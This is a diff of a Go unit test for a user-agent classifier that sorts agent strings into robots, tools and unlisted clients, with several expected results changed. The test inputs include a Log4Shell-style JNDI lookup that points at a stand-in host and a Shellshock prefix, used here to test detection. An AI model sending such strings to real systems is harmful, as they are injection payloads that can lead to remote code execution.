@@ -62,14 +62,15 @@ func TestFormFindsWhatNoListNames(t *testing.T) {
 	for agent, want := range map[string]Kind{
 		"Mozilla/5.0": Robot, "${jndi:ldap://x.example/a}": Robot, "{{user_agent}}": Robot, "() { :; }; echo": Robot,
 		"Dart/3.5 (dart:io)": Tool, "Java/21.0.2": Tool, "hackney/1.20.1": Tool, "Javascript": Unlisted,
-		"Zorgle/1.0 (+http://zorgle.example)":           Robot,
+		"Zorgle/1.0 (+http://zorgle.example)":           Tool,     // perhaps a publisher's server
 		"Zorgle/1.0 (http://zorgle.example)":            Unlisted, // readers of podcasts write so, too
 		"Zorgle/1.0 (http://zorgle.example/crawling)":   Robot,
-		"Zorgle/1.0 (who@zorgle.example)":               Robot,
+		"Zorgle/1.0 (who@zorgle.example)":               Tool,
 		"Zorgle/1.0 (iPhone; +https://zorgle.example)":  Unlisted,
 		"Zorgle/7 CFNetwork/1494.0.7 Darwin/23.4.0":     Unlisted,
 		"ZorgleBot/7 CFNetwork/1494.0.7 Darwin/23.4.0":  Unlisted, // an application for a chat robot
-		"Zorgle/7 (+http://z.example) CFNetwork/1494.0": Robot,
+		"Zorgle/7 (+http://z.example) CFNetwork/1494.0": Tool,
+		"zorgle-fetcher/1.2":                            Tool, "AcmeChatbot/1.0": Unlisted, chrome + " (+http://zorgle.example)": Robot,
 		"Zorgle/2.0": Unlisted, "Botanist/2.0": Unlisted, "Botswana Post/1.0": Unlisted,
 		chrome + " ZorgleBot/1.0": Robot, chrome + " (compatible; Zorgle)": Robot,
 		chrome + " user@2x/1.0": Unlisted,
